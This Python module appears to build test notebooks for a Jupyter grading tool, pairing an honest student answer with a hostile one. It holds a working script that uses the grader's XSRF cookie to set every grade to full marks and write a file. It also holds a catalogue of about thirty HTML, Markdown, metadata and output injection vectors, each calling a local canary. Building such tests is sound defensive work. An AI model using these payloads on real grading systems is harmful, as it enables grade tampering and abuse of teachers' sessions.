"""What a student could hand in to act on whoever opens it. An attack that works asks for the address fired/NAME."""

import base64
import json

from submissions import code, graded, markdown, small_notebook

# One pixel, so that `onload` has something to load.
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def fire(name):
    return f"fetch('/fired/{name}')"


# The attack of the first report: full points for every exercise, and a file in the course folder.
GIVES_ITSELF_POINTS = """The slope is at most 1/4.
<script>
const key = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1], headers = {"X-XSRFToken": key};
fetch(base_url + "/api/grades?submission_id=" + submission_id, {headers}).then(answer => answer.json()).then(grades =>
    grades.forEach(grade => fetch(base_url + "/api/grade/" + grade.id, {
        method: "PUT", headers: {...headers, "Content-Type": "application/json"},
        body: JSON.stringify({...grade, manual_score: grade.max_score})})));
const file = '{"type": "file", "format": "text", "content": "x"}';
fetch("/api/contents/was_here.txt", {method: "PUT", headers, body: file});
fetch("/fired/points");
</script>"""

# {name: what stands in a Markdown cell}. CLICKED need a click; all others act when the page is opened.
MARKDOWN = {
    "script": "<script>FIRE</script>",
    "script-in-words": "words <script>FIRE</script> words",
    "script-in-table": "| a |\n|---|\n| <img src=x onerror=FIRE> |",
    "handler": '<img src="x" onerror="FIRE">',
    "handler-unquoted": "<img/src=x/onerror=FIRE>",
    "upper-case": "<ScRiPt>FIRE</sCrIpT>",
    "svg": '<svg onload="FIRE"></svg>',
    "svg-in-math": '<math><mtext></mtext><svg><animate onbegin="FIRE" attributeName=x dur=1s></svg></math>',
    "iframe": '<iframe src="/fired/iframe"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>parent.FIRE</script>"></iframe>',
    "object": '<object data="/fired/object"></object>',
    "embed": '<embed src="/fired/embed">',
    "video": '<video poster="/fired/video"></video>',
    "details": '<details open ontoggle="FIRE">x</details>',
    "autofocus": '<input autofocus onfocus="FIRE">',
    "animation": "<style>@keyframes x{}</style><p style='animation: x 1s' onanimationstart=\"FIRE\">x</p>",
    "style": "<style>@import '/fired/style';</style>",
    "stylesheet": '<link rel="stylesheet" href="/fired/stylesheet">',
    "background": '<p style="background: url(/fired/background)">x</p>',
    "picture": "![](/fired/picture)",
    "picture-by-name": "![x][pic]\n\n[pic]: /fired/picture-by-name",
    "picture-html": '<img src="/fired/picture-html">',
    "mermaid": "```mermaid\n<img src=x onerror=FIRE>\n```",
    "comment-broken": "<!--> <img src=x onerror=FIRE> -->",
    "in-list": "- one\n- <img src=x onerror=FIRE>",
    "link": '<a href="javascript:FIRE">click</a>',
    "link-entity": '<a href="&#106;avascript&colon;FIRE">click</a>',
    "link-tab": '<a href="java\tscript:FIRE">click</a>',
    "button": '<button onclick="FIRE">click</button>',
    "map": '<img usemap="#m" src=x width=9 height=9><map name="m"><area shape=default href="javascript:FIRE"></map>',
}
CLICKED = ("link", "link-entity", "link-tab", "button")
PICTURE = f"""from IPython.display import publish_display_data as show
show({{"image/png": "{PIXEL}"}}, metadata={{"image/png": {{"width": "9 onload=FIRE"}}}})"""
COUNT = """class Count(str):
    __add__ = __sub__ = lambda self, other: self
get_ipython()._trait_values["execution_count"] = Count("<img src=x onerror=FIRE>")"""
# {name: code whose output acts}.
OUTPUTS = {
    "html": """from IPython.display import HTML\nHTML('<img src=x onerror="' + "FIRE" + '">')""",
    "javascript": 'from IPython.display import Javascript\nJavascript("FIRE")',
    "markdown-shown": """from IPython.display import Markdown\nMarkdown('<img src=x onerror="' + "FIRE" + '">')""",
    "iframe-shown": "from IPython.display import IFrame\nIFrame('/fired/iframe-shown', 9, 9)",
    "isolated": """from IPython.display import publish_display_data as show
show({"text/html": "<script>FIRE</script>"}, metadata={"text/html": {"isolated": True}})""",
    "picture-shown": "from IPython.display import Image\nImage(url='/fired/picture-shown')",
    "size": PICTURE,
}


def _fired(text, name):
    return text.replace("FIRE", fire(name))


def hostile_notebook(guarded):
    """A right answer to the one exercise, and every attack after it; nbgrader alone cannot grade all of them."""
    answer = markdown(GIVES_ITSELF_POINTS, "answer") | graded("explain", 2, locked=False)
    cells = [markdown(_fired(text, name), name) for name, text in MARKDOWN.items()]
    cells += [code(_fired(text, name), name) for name, text in OUTPUTS.items()]
    cells += [code(_fired(COUNT, "count"), "count")] * guarded
    tagged = code("1", "tagged") | {"metadata": {"tags": [f'"><img src=x onerror="{fire("tag")}">']}}
    raw = markdown(_fired("<script>FIRE</script>", "raw"), "raw", cell_type="raw", metadata={"raw_mimetype": ""})
    kind = f'image/png" onerror="{fire("attachment")}'
    pasted = markdown("![](attachment:p.png)", "pasted", attachments={"p.png": {kind: PIXEL}})
    notebook = small_notebook(answer, *cells, tagged, raw, pasted)
    notebook["metadata"] |= {"title": f"</title><script>{fire('title')}</script>"}
    notebook["metadata"]["language_info"] = {"name": "python", "pygments_lexer": f'"><script>{fire("lexer")}</script>'}
    if guarded:  # Colab writes this, and the page of who has it breaks
        notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"version_major": 2}}
    return notebook


def honest_notebook():
    """A right answer, with words, formulas, code, a link, and a photograph of a derivation."""
    photograph = {"my photo.png": {"image/png": PIXEL}}
    answer = markdown(HONEST_ANSWER, "answer", attachments=photograph) | graded("explain", 2, locked=False)
    return small_notebook(answer)


HONEST_ANSWER = """Since $\\sigma' = \\sigma(1-\\sigma) \\le 1/4$ and $0<\\sigma<1$, **ten** layers leave `a<b` [1]:

$$\\prod_{l=1}^{10} \\sigma'(z_l) < 4^{-10}$$

![](attachment:my%20photo.png)

| layers | factor |
|---|---|
| 10 | 1e-6 |

See [the article](https://arxiv.org/abs/1502.01852), and `if x<0: return 0`."""


def solution_notebook():
    """What the teacher releases: the same exercise, and a written answer to give."""
    answer = markdown("### BEGIN SOLUTION\nAt most 1/4.\n### END SOLUTION", "answer")
    return small_notebook(answer | graded("explain", 2, locked=False))


def text(notebook):
    return json.dumps(notebook)


assert base64.b64decode(PIXEL).startswith(b"\x89PNG")
